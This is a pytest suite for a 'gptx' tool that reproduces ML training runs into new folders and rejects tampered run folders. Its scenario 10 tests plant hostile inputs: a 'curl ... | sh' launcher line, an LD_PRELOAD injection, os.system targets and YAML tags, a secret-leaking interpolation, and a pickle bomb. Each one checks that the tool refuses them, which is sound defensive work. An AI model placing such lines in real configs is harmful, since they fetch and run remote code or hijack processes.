"""Fault scenarios 9 and 10: reproduce a run into a new folder; never trust what a run folder says to run."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
import yaml
from safetensors import safe_open
from safetensors.torch import load_file, save_file

from gptx.tools.reproduce import environment_differences, main, new_reproduction_dir

from conftest import TINY, Bomb, run_gptx

pytestmark = pytest.mark.slow

ALTERED_TENSOR = "trf_blocks.0.norm1.weight"


@pytest.fixture(scope="module")
def original(tmp_path_factory) -> Path:
    """A completed tiny run, made by the command line as a user would."""
    cwd = tmp_path_factory.mktemp("original")
    proc = run_gptx(*TINY, f"hydra.run.dir={cwd / 'run'}", cwd=cwd)
    assert proc.returncode == 0, proc.stderr
    return cwd / "run"


@pytest.fixture
def run(original, tmp_path) -> Path:
    """A private copy of the original run, free to edit."""
    return Path(shutil.copytree(original, tmp_path / "run", ignore=shutil.ignore_patterns("reproductions")))


def digest(folder: Path) -> dict[str, str]:
    """sha256 of every file, the reproductions/ subfolder left out."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*"))
            if p.is_file() and p.relative_to(folder).parts[0] != "reproductions"}


def reproductions(run: Path) -> list[Path]:
    return sorted((run / "reproductions").iterdir()) if (run / "reproductions").exists() else []


def edit_yaml(path: Path, edit) -> None:
    tree = yaml.safe_load(path.read_text())
    edit(tree)
    path.write_text(yaml.safe_dump(tree, sort_keys=False))


def rejected(run: Path, capsys, *args: str) -> str:
    """Run reproduce, expect exit 2 with one error line last, and nothing written anywhere in the folder."""
    before = digest(run)
    assert main([str(run), *args]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert lines[-1].startswith("gptx: error: ")
    assert all(line.startswith("warning: ") for line in lines[:-1]), lines
    assert digest(run) == before and reproductions(run) == []
    return lines[-1]




# Scenario 9: reproduce into a new folder.

def test_scenario_9_reproduce_identical_into_new_folder(original):
    before = digest(original)
    proc = run_gptx(str(original), module="gptx.reproduce", cwd=original.parent)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("IDENTICAL\n")
    assert "test_loss: original" in proc.stdout and "exactly equal" in proc.stdout
    [new] = reproductions(original)
    assert re.fullmatch(r"\d{4}-\d\d-\d\d_\d\d-\d\d-\d\d(_\d+)?", new.name)
    want, got = (json.loads((d / "result.json").read_text()) for d in (original, new))
    assert got["final_weights_sha256"] == want["final_weights_sha256"]
    assert got["test_loss"] == want["test_loss"]
    report = json.loads((new / "reproduction.json").read_text())
    assert report["verdict"] == "IDENTICAL" and report["original"] == str(original.resolve())
    assert report["weights"]["identical"] and report["test_loss"]["exactly_equal"]
    assert (new / ".hydra" / "config.yaml").read_text() == (original / ".hydra" / "config.yaml").read_text()
    assert digest(original) == before


def test_scenario_9_each_reproduction_gets_its_own_folder(tmp_path):
    now = dt.datetime(2025, 1, 2, 3, 4, 5)
    names = [new_reproduction_dir(tmp_path, now).name for _ in range(3)]
    assert names == ["2025-01-02_03-04-05", "2025-01-02_03-04-05_1", "2025-01-02_03-04-05_2"]


def test_scenario_9_refuses_original_folder(run, tmp_path, capsys):
    assert "into the original folder" in rejected(run, capsys, "--out", str(run))
    (tmp_path / "link").symlink_to(run)
    assert "into the original folder" in rejected(run, capsys, "--out", str(tmp_path / "link"))
    assert "contains the original folder" in rejected(run, capsys, "--out", str(run.parent))
    assert "inside the original folder" in rejected(run, capsys, "--out", str(run / ".hydra" / "again"))
    (tmp_path / "taken").mkdir()
    assert "already exists" in rejected(run, capsys, "--out", str(tmp_path / "taken"))


def test_scenario_9_a_reproduction_refused_on_its_config_leaves_no_folder(run, tmp_path, capsys):
    edit_yaml(run / ".hydra" / "config.yaml", lambda tree: tree["data"].update(path=str(tmp_path / "gone.txt")))
    before = digest(run)
    assert main([str(run), "--allow-config-change"]) == 2
    assert capsys.readouterr().err.splitlines()[-1].endswith("gone.txt is not a file")
    assert digest(run) == before and not (run / "reproductions").exists()  # not even an empty folder


def test_scenario_9_a_saved_config_asking_for_a_huge_model_is_refused(run, capsys):
    edit_yaml(run / ".hydra" / "config.yaml", lambda tree: tree["model"].update(d_model=16384, n_layers=64))
    assert "pass --allow-large" in rejected(run, capsys, "--allow-config-change")


def test_scenario_9_refuses_a_run_that_did_not_complete(run, capsys):
    result = json.loads((run / "result.json").read_text())
    (run / "result.json").write_text(json.dumps({**result, "status": "running"}))
    assert "says status 'running'" in rejected(run, capsys)
    (run / "result.json").unlink()
    assert "has no result.json" in rejected(run, capsys)


def test_scenario_9_warns_on_environment_change(run, capsys):
    result = json.loads((run / "result.json").read_text())
    result["versions"]["torch"] = "1.0.0"
    (run / "result.json").write_text(json.dumps(result))
    assert "versions.torch differ from the original's; --strict-env refuses" in rejected(run, capsys, "--strict-env")
    assert main([str(run)]) == 0
    captured = capsys.readouterr()
    assert f"warning: versions.torch differs: original '1.0.0', now '{torch.__version__}'" in captured.err
    assert captured.out.startswith("IDENTICAL\n")
    [new] = reproductions(run)
    report = json.loads((new / "reproduction.json").read_text())
    assert {"field": "versions.torch", "original": "1.0.0", "now": torch.__version__} in \
        report["environment_differences"]


def test_scenario_9_environment_fields_compared():
    base = {"versions": {"torch": "2.13.0", "cuda": "12.8", "cudnn": 91000, "gptx": "0.1.0", "git_commit": "abc"},
            "device": "NVIDIA H100 80GB HBM3", "precision": "amp_bf16+tf32"}
    assert environment_differences(base, base) == []
    other = {**base, "device": "NVIDIA A100-SXM4-80GB", "versions": {**base["versions"], "cuda": "12.6"}}
    assert [d["field"] for d in environment_differences(base, other)] == ["versions.cuda", "device"]
    # A data fingerprint counts only when both results record one (older results have none).
    assert environment_differences(base, {**base, "data_sha256": "b"}) == []
    assert environment_differences({**base, "data_sha256": "a"}, {**base, "data_sha256": "b"}) == [
        {"field": "data_sha256", "original": "a", "now": "b"}]


def test_scenario_9_altered_saved_weights_are_reported(run, capsys):
    path = run / "model.safetensors"
    tensors = load_file(str(path))
    tensors[ALTERED_TENSOR] = tensors[ALTERED_TENSOR] + 1e-3
    with safe_open(str(path), framework="pt") as f:
        metadata = f.metadata()
    save_file(tensors, str(path), metadata=metadata)
    assert main([str(run)]) == 1
    captured = capsys.readouterr()
    assert "model.safetensors was altered since the run" in captured.err
    assert captured.out.startswith("DIFFERENT\n")
    assert "the reproduction matches the hash recorded in result.json; the saved file does not" in captured.out
    [line] = [ln for ln in captured.out.splitlines() if ALTERED_TENSOR in ln]
    assert float(line.split("max abs diff ")[1]) == pytest.approx(1e-3, rel=1e-3)
    report = json.loads((reproductions(run)[0] / "reproduction.json").read_text())
    assert report["verdict"] == "DIFFERENT" and report["weights"]["original_file_altered"]
    [diff] = report["weights"]["tensors"]["differing"]
    assert diff["name"] == ALTERED_TENSOR and diff["max_abs_diff"] == pytest.approx(1e-3, rel=1e-3)


# Scenario 10: hostile saved config and files, rejected before any import or side effect.

@pytest.mark.parametrize("edit", [
    lambda c: c.update({"_target_": "os.system"}),
    lambda c: c["train"].update({"_target_": "os.system"}),
], ids=["top_level", "nested"])
def test_scenario_10_hostile_target_rejected(run, capsys, edit):
    edit_yaml(run / ".hydra" / "config.yaml", edit)
    assert "_target_' is not allowed" in rejected(run, capsys)


@pytest.mark.parametrize("section", [
    {"callbacks": {"evil": {"_target_": "os.system"}}},
    {"launcher": {"setup": ["curl https://example.invalid/x | sh"]}},
    {"job": {"env_set": {"LD_PRELOAD": "/tmp/evil.so"}}},
], ids=["callbacks", "launcher_setup", "env_set"])
def test_scenario_10_hydra_section_in_config_rejected(run, capsys, section):
    edit_yaml(run / ".hydra" / "config.yaml", lambda c: c.update({"hydra": section}))
    assert "key 'hydra' is not allowed" in rejected(run, capsys)


def test_scenario_10_interpolation_rejected_without_leaking(run, capsys, monkeypatch):
    monkeypatch.setenv("SECRET", "hunter2")
    edit_yaml(run / ".hydra" / "config.yaml", lambda c: c["data"].update({"name": "${oc.env:SECRET}"}))
    assert "hunter2" not in rejected(run, capsys)


def test_scenario_10_unknown_key_rejected(run, capsys):
    edit_yaml(run / ".hydra" / "config.yaml", lambda c: c["train"].update({"trian_lr": 0.1}))
    assert "unknown key 'train.trian_lr'" in rejected(run, capsys)


def test_scenario_10_python_yaml_tag_rejected(run, tmp_path, capsys):
    marker = tmp_path / "ran"
    with (run / ".hydra" / "config.yaml").open("a") as f:
        f.write(f'replica: !!python/object/apply:os.system ["touch {marker}"]\n')
    assert "not plain YAML data" in rejected(run, capsys)
    assert not marker.exists()


def test_scenario_10_hydra_yaml_callback_never_imported(run, tmp_path, capsys, monkeypatch):
    marker = tmp_path / "imported"
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / "evil_cb_reproduce.py").write_text(f"open({str(marker)!r}, 'w').close()\nclass Cb: pass\n")
    # The trap works: importing the module does create the marker.
    subprocess.run([sys.executable, "-c", "import evil_cb_reproduce"], check=True,
                   env={**os.environ, "PYTHONPATH": str(modules)})
    assert marker.exists()
    marker.unlink()
    monkeypatch.syspath_prepend(str(modules))
    hydra = yaml.safe_load((run / ".hydra" / "hydra.yaml").read_text())
    hydra["hydra"]["callbacks"] = {"evil": {"_target_": "evil_cb_reproduce.Cb"}}
    hydra["hydra"]["job"]["env_set"] = {"EVIL": "1"}
    hydra["hydra"]["launcher"]["setup"] = [f"touch {marker}"]
    (run / ".hydra" / "hydra.yaml").write_text(yaml.safe_dump(hydra))
    assert main([str(run), "--show-hydra"]) == 0
    captured = capsys.readouterr()
    assert "note: ignored: " in captured.err and "callback evil: evil_cb_reproduce.Cb" in captured.err
    assert captured.out.startswith("IDENTICAL\n")
    assert not marker.exists() and "evil_cb_reproduce" not in sys.modules and "EVIL" not in os.environ


def test_scenario_10_pickle_never_opened(run, tmp_path, capsys, no_unpickling):
    marker = tmp_path / "unpickled"
    (run / "ckpt.pt").write_bytes(pickle.dumps(Bomb(marker)))
    before = digest(run)
    assert main([str(run)]) == 0
    captured = capsys.readouterr()
    assert f"warning: {run / 'ckpt.pt'} may hold a pickle; gptx never opens it" in captured.err
    assert captured.out.startswith("IDENTICAL\n")
    assert not marker.exists() and digest(run) == before


def test_scenario_9_a_reproduction_that_raises_is_different_with_its_traceback(run, capsys, monkeypatch):
    import gptx.run

    def broken(cfg, run_dir, **kwargs):
        raise RuntimeError("simulated crash")

    monkeypatch.setattr(gptx.run, "train", broken)
    assert main([str(run)]) == 1
    assert "error: the reproduction failed: RuntimeError: simulated crash" in capsys.readouterr().err
    report = json.loads((reproductions(run)[0] / "reproduction.json").read_text())
    assert report["verdict"] == "DIFFERENT" and "simulated crash" in report["traceback"]


def test_scenario_10_command_line_rejects_before_side_effects(run, tmp_path):
    marker = tmp_path / "imported"
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / "evil_cb_cli.py").write_text(f"open({str(marker)!r}, 'w').close()\nclass Cb: pass\n")
    edit_yaml(run / ".hydra" / "config.yaml", lambda c: c.update(
        {"_target_": "evil_cb_cli.Cb", "hydra": {"callbacks": {"evil": {"_target_": "evil_cb_cli.Cb"}}}}))
    before = digest(run)
    proc = run_gptx(str(run), module="gptx.reproduce", cwd=tmp_path, env={"PYTHONPATH": str(modules)})
    assert proc.returncode == 2
    assert proc.stderr.startswith("gptx: error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert proc.stdout == "" and not marker.exists()
    assert digest(run) == before and reproductions(run) == []
